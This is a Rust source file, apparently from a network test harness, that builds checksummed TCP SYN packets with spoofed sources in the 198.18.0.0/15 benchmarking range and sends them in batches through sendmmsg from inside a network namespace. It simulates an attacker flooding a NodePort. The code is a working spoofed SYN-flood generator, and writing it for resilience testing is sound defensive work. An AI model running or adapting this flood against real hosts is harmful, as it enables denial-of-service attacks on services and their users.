//! A SYN flood from spoofed sources, as raw frames (sendmmsg in batches): what an
//! attacker on the underlay can send to a NodePort.

use std::{net::Ipv4Addr, os::fd::AsRawFd};

use anyhow::{bail, Result};

use crate::{
    netns::Netns,
    packets::{checksum, ethernet, ipv4_header, ETH_P_IPV4},
};

/// A TCP SYN from `src:sport` to `dst:dport`, checksums right.
pub fn syn(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16) -> Vec<u8> {
    let mut tcp = vec![0u8; 20];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dport.to_be_bytes());
    tcp[4..8].copy_from_slice(&(u32::from(src) ^ sport as u32).to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = Vec::with_capacity(32);
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, 6, 0, 20]);
    pseudo.extend_from_slice(&tcp);
    let c = checksum(&pseudo);
    tcp[16..18].copy_from_slice(&c.to_be_bytes());
    let mut ip = ipv4_header(src, dst, 6, tcp.len());
    ip.extend_from_slice(&tcp);
    ip
}

/// Sends `count` SYNs to `dst:dport` out of `ifname` in `ns`, each from another
/// source address (in 198.18.0.0/15, the benchmarking range) and port, in Ethernet
/// frames to `dst_mac`.
pub fn syn_flood(
    ns: &Netns,
    ifname: &str,
    dst_mac: [u8; 6],
    dst: Ipv4Addr,
    dport: u16,
    count: u32,
) -> Result<()> {
    let ifname = ifname.to_string();
    let sent = ns.run(move || -> std::io::Result<()> {
        let fd = crate::capture::open(&ifname)?;
        let src_mac = [0x02, 0x5f, 0x10, 0x0d, 0, 1];
        const BATCH: u32 = 512;
        let mut i = 0;
        while i < count {
            let n = BATCH.min(count - i);
            let frames: Vec<Vec<u8>> = (i..i + n)
                .map(|k| {
                    let h = k.wrapping_mul(2654435761);
                    let src = Ipv4Addr::from(0xc612_0000 | (h & 0x1_ffff));
                    let sport = 1024 + (h >> 17) as u16 % 60000;
                    ethernet(dst_mac, src_mac, ETH_P_IPV4, &syn(src, sport, dst, dport))
                })
                .collect();
            let mut iovs: Vec<libc::iovec> = frames
                .iter()
                .map(|f| libc::iovec {
                    iov_base: f.as_ptr() as *mut _,
                    iov_len: f.len(),
                })
                .collect();
            let mut msgs: Vec<libc::mmsghdr> = iovs
                .iter_mut()
                .map(|iov| {
                    // SAFETY: a zeroed msghdr is valid; it points at one iovec.
                    let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
                    m.msg_hdr.msg_iov = iov;
                    m.msg_hdr.msg_iovlen = 1;
                    m
                })
                .collect();
            // SAFETY: msgs, their iovecs and the frames outlive the call.
            let r = unsafe { libc::sendmmsg(fd.as_raw_fd(), msgs.as_mut_ptr(), n, 0) };
            if r < 0 {
                return Err(std::io::Error::last_os_error());
            }
            i += r as u32;
        }
        Ok(())
    });
    if let Err(e) = sent {
        bail!("flooding: {e}");
    }
    Ok(())
}
